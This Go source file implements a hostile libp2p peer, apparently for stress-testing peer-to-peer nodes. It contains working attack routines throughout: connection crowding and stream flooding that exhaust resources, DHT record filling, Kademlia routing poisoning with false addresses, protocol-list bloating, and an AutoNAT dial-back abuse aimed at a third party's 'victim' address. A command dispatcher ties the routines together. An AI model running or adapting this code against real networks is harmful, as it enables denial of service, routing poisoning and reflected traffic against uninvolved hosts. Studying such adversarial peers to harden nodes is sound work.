package main

// What a hostile peer does: it takes as many connections and streams as it can get, fills the DHT,
// and answers it with lies. It keeps to no limit of its own.

import (
	"bufio"
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	"github.com/multiformats/go-multiaddr"
	"google.golang.org/protobuf/encoding/protowire"
)

const kadProtocol = "/ipfs/kad/1.0.0"

// Of a Kademlia message: its fields, and those of the peers and the record in it.
const (
	kadType, kadKey, kadRecord, kadCloser = 1, 2, 3, 8
	recordKey, recordValue                = 1, 2
	peerID, peerAddr                      = 1, 2
	putValue, findNode                    = 0, 4
)

var held sync.Map // nothing of it is ever let go

// Many nodes, each with a key of its own, that connect and stay, each with a stream on a protocol if
// there is to be one.
func crowd(ctx context.Context, to peer.AddrInfo, count int, protocols []string) (int, error) {
	var connected sync.WaitGroup
	var mutex sync.Mutex
	came := 0
	for i := range count {
		connected.Add(1)
		go func() {
			defer connected.Done()
			node, err := libp2p.New(libp2p.NoListenAddrs, libp2p.DisableRelay(),
				libp2p.ResourceManager(&network.NullResourceManager{}))
			if err != nil {
				return
			}
			held.Store(fmt.Sprint("node ", i), node)
			if node.Connect(ctx, to) != nil {
				return
			}
			for _, name := range protocols {
				stream, err := node.NewStream(ctx, to.ID, protocol.ID(name))
				if err != nil {
					return
				}
				held.Store(fmt.Sprint("stream of ", i), stream)
			}
			mutex.Lock()
			came++
			mutex.Unlock()
		}()
	}
	connected.Wait()
	return came, nil
}

// Streams that are opened, written to, and never closed.
func flood(ctx context.Context, node host.Host, to peer.ID, count int) (int, error) {
	opened := 0
	for i := range count {
		stream, err := node.NewStream(ctx, to, echoProtocol)
		if err != nil {
			return opened, err
		}
		held.Store(fmt.Sprint("stream ", i), stream)
		stream.SetWriteDeadline(time.Now().Add(5 * time.Second))
		if _, err := stream.Write([]byte{1}); err == nil {
			opened++
		}
	}
	return opened, nil
}

func field(message []byte, number protowire.Number, value []byte) []byte {
	return protowire.AppendBytes(protowire.AppendTag(message, number, protowire.BytesType), value)
}

func typed(kind uint64) []byte {
	return protowire.AppendVarint(protowire.AppendTag(nil, kadType, protowire.VarintType), kind)
}

func send(to io.Writer, message []byte) error {
	_, err := to.Write(append(binary.AppendUvarint(nil, uint64(len(message))), message...))
	return err
}

func putRecord(ctx context.Context, node host.Host, to peer.ID, size int) error {
	key := make([]byte, 32)
	rand.Read(key)
	record := field(field(nil, recordKey, key), recordValue, make([]byte, size))
	stream, err := node.NewStream(ctx, to, kadProtocol)
	if err != nil {
		return err
	}
	defer stream.Reset()
	stream.SetDeadline(time.Now().Add(5 * time.Second))
	if err = send(stream, field(field(typed(putValue), kadKey, key), kadRecord, record)); err != nil {
		return err
	}
	_, err = binary.ReadUvarint(bufio.NewReader(stream))
	return err
}

// Records of random keys, some at a time: how many were taken.
func fill(ctx context.Context, node host.Host, to peer.ID, count, size int) int {
	var taken atomic.Int32
	var working sync.WaitGroup
	const atATime = 16
	for range atATime {
		working.Add(1)
		go func() {
			defer working.Done()
			for range count / atATime {
				if putRecord(ctx, node, to, size) == nil {
					taken.Add(1)
				}
			}
		}()
	}
	working.Wait()
	return int(taken.Load())
}

func keyOf(message []byte) []byte {
	for len(message) > 0 {
		number, kind, n := protowire.ConsumeTag(message)
		if n < 0 {
			return nil
		}
		message = message[n:]
		if number == kadKey && kind == protowire.BytesType {
			key, _ := protowire.ConsumeBytes(message)
			return key
		}
		if n = protowire.ConsumeFieldValue(number, kind, message); n < 0 {
			return nil
		}
		message = message[n:]
	}
	return nil
}

// Whoever is asked for is said to be at these addresses.
func poison(node host.Host, addrs []string) error {
	var lies [][]byte
	for _, text := range addrs {
		addr, err := multiaddr.NewMultiaddr(text)
		if err != nil {
			return err
		}
		lies = append(lies, addr.Bytes())
	}
	node.SetStreamHandler(kadProtocol, func(stream network.Stream) {
		defer stream.Close()
		reader := bufio.NewReader(stream)
		for {
			size, err := binary.ReadUvarint(reader)
			if err != nil || size > 1<<20 {
				return
			}
			message := make([]byte, size)
			if _, err := io.ReadFull(reader, message); err != nil {
				return
			}
			liar := field(nil, peerID, keyOf(message))
			for _, lie := range lies {
				liar = field(liar, peerAddr, lie)
			}
			if send(stream, field(typed(findNode), kadCloser, liar)) != nil {
				return
			}
		}
	})
	return nil
}

// What it says of itself is as large as it can be made.
func grow(node host.Host) {
	for i := range 400 {
		name := protocol.ID(fmt.Sprintf("/ww/%d/%s", i, strings.Repeat("x", 200)))
		node.SetStreamHandler(name, func(stream network.Stream) { stream.Reset() })
	}
}

// Of AutoNAT's messages.
const (
	dialRequest, dialResponse, dataRequest, dataResponse = 1, 2, 3, 4
	requestAddrs, requestNonce                           = 1, 2
	responseStatus                                       = 3
	requestedBytes                                       = 2
)

// A field of a message, as bytes or as a number.
func read(message []byte, wanted protowire.Number) (inner []byte, value uint64) {
	for len(message) > 0 {
		number, kind, n := protowire.ConsumeTag(message)
		if n < 0 {
			return
		}
		message = message[n:]
		if number == wanted && kind == protowire.BytesType {
			inner, _ = protowire.ConsumeBytes(message)
		} else if number == wanted && kind == protowire.VarintType {
			value, _ = protowire.ConsumeVarint(message)
		}
		if n = protowire.ConsumeFieldValue(number, kind, message); n < 0 {
			return
		}
		message = message[n:]
	}
	return
}

// Asks to be dialled back at an address that is somebody else's, and pays what that costs: what
// came of it, as AutoNAT's status.
func dialBack(ctx context.Context, node host.Host, to peer.ID, victim string) (uint64, error) {
	addr, err := multiaddr.NewMultiaddr(victim)
	if err != nil {
		return 0, err
	}
	stream, err := node.NewStream(ctx, to, "/libp2p/autonat/2/dial-request")
	if err != nil {
		return 0, err
	}
	defer stream.Reset()
	request := field(nil, requestAddrs, addr.Bytes())
	request = protowire.AppendTag(request, requestNonce, protowire.Fixed64Type)
	request = protowire.AppendFixed64(request, 1)
	if err := send(stream, field(nil, dialRequest, request)); err != nil {
		return 0, err
	}
	reader := bufio.NewReader(stream)
	for {
		size, err := binary.ReadUvarint(reader)
		if err != nil {
			return 0, err
		}
		message := make([]byte, min(size, 1<<16))
		if _, err := io.ReadFull(reader, message); err != nil {
			return 0, err
		}
		if asked, _ := read(message, dataRequest); asked != nil {
			_, count := read(asked, requestedBytes)
			for sent := uint64(0); sent < count; sent += 4096 {
				data := field(nil, dataResponse, field(nil, 1, make([]byte, 4096)))
				if err := send(stream, data); err != nil {
					return 0, err
				}
			}
			continue
		}
		response, _ := read(message, dialResponse)
		_, status := read(response, responseStatus)
		return status, nil
	}
}

func attack(ctx context.Context, node host.Host, words []string) error {
	var count, size int
	if len(words) > 2 {
		fmt.Sscan(words[2], &count)
	}
	if len(words) > 3 {
		fmt.Sscan(words[3], &size)
	}
	switch words[0] {
	case "crowd":
		to, err := peer.AddrInfoFromString(words[1])
		if err != nil {
			return err
		}
		came, err := crowd(ctx, *to, count, words[3:])
		say("crowded", came)
		return err
	case "poison":
		if err := poison(node, strings.Split(words[1], ",")); err != nil {
			return err
		}
		say("poisoned")
		return nil
	case "grow":
		grow(node)
		say("grown")
		return nil
	}
	to, err := peer.Decode(words[1])
	if err != nil {
		return err
	}
	switch words[0] {
	case "flood":
		opened, err := flood(ctx, node, to, count)
		if err != nil {
			say("flooded", opened, err)
		} else {
			say("flooded", opened)
		}
		return nil
	case "dialback":
		status, err := dialBack(ctx, node, to, words[2])
		if err != nil {
			return err
		}
		say("answered", status)
		return nil
	case "fill":
		say("filled", fill(ctx, node, to, count, size))
		return nil
	}
	return errors.New("no such command")
}
